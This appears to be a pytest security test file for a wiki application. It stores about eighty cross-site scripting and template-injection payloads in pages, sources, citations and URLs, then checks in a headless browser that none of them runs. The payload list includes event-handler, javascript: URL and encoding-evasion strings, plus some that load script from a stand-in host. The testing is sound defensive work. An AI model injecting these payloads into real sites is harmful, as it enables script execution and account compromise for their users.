"""Texts that try to run scripts in the reader run none, wherever they are stored and shown."""

import asyncio
import json
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.web.prose import safe_html
from content.markdown.html import html
from db.scope import Review, Role, Terms
from resolvers.pages.hierarchy import set_parent
from resolvers.pages.sections import patch_section
from resolvers.proposals.gate import ReviewRequired
from resolvers.sources.mentions import record_mention
from resolvers.sources.sources import SourceDraft, add_source, cite_source
from tests.app.chromium import EXECUTABLE, Tab, tab
from tests.app.clients.web_client import add_page
from tests.app.service import serving
from tests.app.web.test_web_in_browser import opened
from tests.wiki import Wiki

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><input type=submit autofocus>",
    "<a href=javascript:alert(1)>go</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go](java&#x73;cript:alert(1))",
    "[go](java\tscript:alert(1))",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[go](vbscript:msgbox(1))",
    "[go](//evil.example)",
    "[go](/\\evil.example)",
    '[go](/wiki/topic/x"onclick="alert(1))',
    '[go](https://a.example/"onmouseover="alert(1))',
    '![x](https://a.example/"onerror="alert(1))',
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://a.example/x.png)',
    "<javascript:alert(1)>",
    "[[<img src=x onerror=alert(1)>]]",
    '[["onmouseover="alert(1)]]',
    "[[x|<script>alert(1)</script>]]",
    "[[x#</a><script>alert(1)</script>]]",
    "[^<script>alert(1)</script>]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```javascript\n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "[go](\x01javascript:alert(1))",
    "[go](javas&Tab;cript:alert(1))",
    "[go](javas&NewLine;cript&colon;alert(1))",
    "[go](%6Aavascript:alert(1))",
    "[go](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[go](view-source:javascript:alert(1))",
    "[go](feed:javascript:alert(1))",
    "[go](blob:null/alert(1))",
    '[go](https://a.example" onclick=alert(1) x=")',
    "[a]: javascript:alert(1)\n\n[a] ![a]",
    "[a]: <javascript:alert(1)>\n\n[go][a]",
    "[[javascript:alert(1)]]",
    "[[x.pdf|<img src=x onerror=alert(1)>]]",
    "![[<img src=x onerror=alert(1)>.png]]",
    '![[x" onerror="alert(1).png]]',
    '![x](a"onerror="alert(1).png)',
    "![<script>alert(1)</script>](a.png)",
    "[<img src=x onerror=alert(1)>](a.pdf)",
    "<a href='//evil.example'>x</a><link rel=stylesheet href=//evil.example>",
    "<input onfocus=alert(1) autofocus><select onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<x onclick=alert(1) style='position:fixed;inset:0'>x</x>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<!DOCTYPE html><html manifest=//evil.example><head><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
]
LISTENING = """window.hits = [];
window.alert = window.confirm = window.prompt = said => window.hits.push("ran: " + said);
addEventListener("securitypolicyviolation", told => window.hits.push(told.violatedDirective), true);
addEventListener("error", told => window.hits.push(String(told.message)));"""


MARKUP = (
    "[onerror],[onclick],[onload],[onfocus],[onmouseover],[ontoggle],iframe,main script,main style,main img,base,"
    'a[href^="javascript:" i],a[href^="data:" i],a[href^="//"]'
)


def single_line(payload: str) -> str:
    return " ".join(payload.split())


def script_hits(browser: Tab, url: str) -> list[str]:
    """Return the scripts that a page ran or tried to run while all its elements were opened and hovered."""
    opened(browser, url)
    browser.run("document.querySelectorAll('details').forEach(one => one.open = true)")
    browser.run("document.querySelectorAll('main *').forEach(one => one.dispatchEvent(new MouseEvent('mouseover')))")
    shown = json.loads(browser.run(f"JSON.stringify([window.hits, [...document.querySelectorAll({json.dumps(MARKUP)})]"
                                   ".map(one => one.outerHTML)])"))  # fmt: skip
    return [f"{url}: {hit}" for hits in shown for hit in hits]


@pytest.mark.skipif(EXECUTABLE is None, reason="needs Chromium")
async def test_stored_texts_run_no_script_on_any_page(dsn: str, tmp_path: Path, wiki: Wiki, owner: str) -> None:
    body = "\n\n".join(f"## {single_line(payload)} {n}\n\n{payload}" for n, payload in enumerate(PAYLOADS))
    slugs = [
        await add_page(wiki, "Austin", body[:60_000], summary=single_line(" ".join(PAYLOADS))[:900], tags=["<b>x</b>"])
    ]
    for n in range(0, len(PAYLOADS), 6):
        title = single_line(" ".join(PAYLOADS[n : n + 6]))[:450] + f" {n} austin"
        slugs.append(await add_page(wiki, title, f"See [[Austin]].\n\n{title}", summary=title, slug=f"page-{n}"))
    page = await wiki.row("pages", slug="austin")
    section = (await wiki.rows("sections", "position", page_id=page["id"]))[1]["section_slug"]
    text = "\n".join(single_line(payload) for payload in PAYLOADS)
    draft = SourceDraft("document", 'ref"><img src=x onerror=alert(1)>', text, single_line(" ".join(PAYLOADS))[:400])
    source = (await add_source(wiki.database, wiki.scope, draft)).source_id
    summary = single_line(" ".join(PAYLOADS[:5]))
    cited = {"page_id": page["id"], "section_slug": section, "source_id": source, "summary": summary}
    await cite_source(wiki.database, wiki.scope, **cited, line_start=1, line_end=40)
    for payload in PAYLOADS[:8]:
        await record_mention(
            wiki.database, wiki.scope, name=f"Name {single_line(payload)}", source_id=source, quote=payload
        )

    terms = Terms(text[:900], tuple(PAYLOADS[:20]))
    writing = replace(wiki.scope, review=Review(terms=terms))
    with pytest.raises(ReviewRequired) as review:
        await patch_section(wiki.database, writing, page["id"], section_slug=section, body=text)
    other = (await wiki.row("pages", slug=slugs[1]))["id"]
    await set_parent(wiki.database, wiki.scope, page["id"], parent_id=other)

    async with serving(dsn, tmp_path) as signing:
        token = signing.token(wiki.scope.tenant_id, wiki.scope.owner_id, Role.ADMIN)
    async with serving(dsn, tmp_path, local_token=token) as service:
        kinds = ("wiki", "pages", "sources", "work", "proposals", "search", "new", "add-source", "keys")
        paths = [f"{kind}/{owner}" for kind in kinds]
        paths += [f"wiki/{owner}/topic/{slug}" for slug in slugs]
        paths += [f"{kind}/{owner}/topic/austin" for kind in ("edit", "rename", "archive", "history", "move")]
        paths += [f"{kind}/{owner}/{source}" for kind in ("source", "forget")]
        paths += [f"proposal/{owner}/{review.value.proposal_id}?made=1", f"merge/{owner}/topic/austin?name={slugs[1]}"]
        paths += [f"graph/{owner}/{page['id']}?depth=2", f"sources/{owner}?q=alert", f"search/{owner}?q=austin"]
        queries = (
            f"search/{owner}?q=",
            f"new/{owner}?title=",
            f"move/{owner}/topic/austin?name=",
            f"pages/{owner}?tag=",
            "sign-in?next=",
            "nothing/",
        )
        paths += [path + quote(payload) for payload in PAYLOADS[:6] for path in queries]

        def browse() -> list[str]:
            with tab() as browser:
                browser.call("Page.addScriptToEvaluateOnNewDocument", source=LISTENING)
                opened(browser, f"{service.url}/wiki/{owner}/topic/austin")
                assert browser.run("document.querySelectorAll('.evidence blockquote').length") == 1
                assert browser.run("document.body.textContent.split('alert(1)').length") > len(PAYLOADS)
                found = [hit for path in paths for hit in script_hits(browser, f"{service.url}/{path}")]
                opened(browser, f"{service.url}/edit/{owner}/topic/austin")
                browser.wait_for("document.querySelectorAll('.preview .prose *').length > 20")
                found += json.loads(browser.run("JSON.stringify(window.hits)"))
                opened(browser, f"{service.url}/wiki/{owner}")
                browser.run("document.querySelector('.find input').focus()")
                browser.call("Input.insertText", text="austin")
                browser.wait_for("document.querySelectorAll('.suggestions [role=option]').length > 1")
                return found + json.loads(browser.run("JSON.stringify(window.hits)"))

        assert await asyncio.to_thread(browse) == []


@given(
    st.lists(st.sampled_from([*PAYLOADS, "a", "\n\n", "`", "<", '"', "[[x]]", "- [ ] ", "| a |\n|-|\n"]), max_size=6)
)
def test_safe_html_contains_no_markup_of_the_text(parts: list[str]) -> None:
    shown = str(safe_html(html("".join(parts), {}), "mara", True))
    plain = html("".join(parts), {})
    assert shown.count("<script") == plain.count("<script") == 0
    assert "<img" not in shown
    assert 'href="javascript' not in shown.lower()
